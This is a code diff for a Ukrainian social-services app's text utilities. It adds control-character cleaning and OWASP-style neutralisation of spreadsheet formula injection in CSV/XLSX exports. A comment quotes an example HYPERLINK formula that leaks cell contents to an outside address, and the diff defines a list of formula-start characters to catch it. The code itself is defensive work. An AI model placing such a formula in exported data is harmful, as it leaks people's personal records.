@@ -6,6 +6,8 @@ import re
 import unicodedata
 from decimal import Decimal
 
+from socdesk.domain.numbers import decimal_text
+
 # The three apostrophes people type; all become one form before indexing and searching.
 APOSTROPHES = "'’ʼ"
 APOSTROPHE = "ʼ"  # U+02BC, the modifier letter apostrophe recommended for Ukrainian
@@ -88,7 +90,36 @@ def quantity(amount: Decimal, unit: str) -> str:
     """ "2,5 години", "5 годин", "1 доба": a count with its unit as Ukrainian writes it."""
     forms = UNIT_FORMS.get(unit)
     whole = amount == amount.to_integral_value()
-    number = f"{int(amount)}" if whole else format(amount.normalize(), "f").replace(".", ",")
+    number = decimal_text(amount)
     if forms is None:
         return f"{number} {unit}"
     return f"{number} {forms[plural_form(int(amount)) if whole else 1]}"
+
+
+# Control characters a keyboard never types: NUL, ESC and the rest of C0 and C1 except tab and
+# line breaks. They reach the store only by paste or import, and break exports (XLSX refuses
+# them), so every value is cleaned before it is written (store.uow) or exported.
+_CONTROLS = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
+
+
+def without_controls(text: str) -> str:
+    """`text` without control characters; CR LF and a lone CR become LF."""
+    return _CONTROLS.sub("", text.replace("\r\n", "\n").replace("\r", "\n"))
+
+
+# A cell that starts with one of these is a formula to a spreadsheet program (CSV injection,
+# OWASP): `=HYPERLINK("http://…?leak="&A2, …)` would send the person's name cells away.
+_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_safe(value: str) -> str:
+    """A text cell as SocDesk writes it to CSV or XLSX: a value a spreadsheet would run as a
+    formula gets a leading apostrophe, which shows it as text (OWASP's neutralisation)."""
+    return "'" + value if value.startswith(_FORMULA_STARTS) else value
+
+
+def from_spreadsheet(value: str) -> str:
+    """A text cell as SocDesk reads it back: the apostrophe `spreadsheet_safe` added goes."""
+    if value.startswith("'") and value[1:].startswith(_FORMULA_STARTS):
+        return value[1:]
+    return value
